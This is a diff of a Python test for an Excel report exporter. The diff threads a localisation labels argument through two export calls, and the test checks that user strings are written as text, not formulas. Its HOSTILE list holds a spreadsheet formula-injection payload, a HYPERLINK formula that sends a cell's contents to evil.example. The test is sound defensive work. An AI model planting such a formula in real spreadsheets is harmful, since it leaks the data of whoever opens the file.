@@ -11,8 +11,9 @@ import pytest
 from openpyxl import Workbook, load_workbook
 
 from catalog.exporter import write_catalog
+from messages import Messages
 from reports.figures import DossierReport, DossierRow, Group, SatisfactionReport, Shares
-from reports.render import dossiers_xlsx, satisfaction_xlsx
+from reports.render import Labels, dossiers_xlsx, satisfaction_xlsx
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?d="&A2,"Xem chi tiết")',
@@ -55,13 +56,14 @@ def test_report_workbooks_write_user_strings_as_text() -> None:
         lowest_agencies=[group], stored=1,
     )  # fmt: skip
     buffer = io.BytesIO()
-    satisfaction_xlsx(report, buffer)
+    satisfaction_xlsx(report, buffer, Labels.of(Messages(), "vi"))
     assert _formulas(buffer.getvalue()) == []
     # Kept, as text (XML stores a carriage return as a line feed).
     assert {h.replace("\r", "\n") for h in HOSTILE} <= _texts(buffer.getvalue())
     row = DossierRow(HOSTILE[0], received=1)
     buffer = io.BytesIO()
-    dossiers_xlsx(DossierReport(date(2026, 1, 1), date(2026, 1, 31), "agency", [row], row), buffer)
+    table = DossierReport(date(2026, 1, 1), date(2026, 1, 31), "agency", [row], row)
+    dossiers_xlsx(table, buffer, Labels.of(Messages(), "vi"))
     assert _formulas(buffer.getvalue()) == [] and HOSTILE[0] in _texts(buffer.getvalue())
 
 
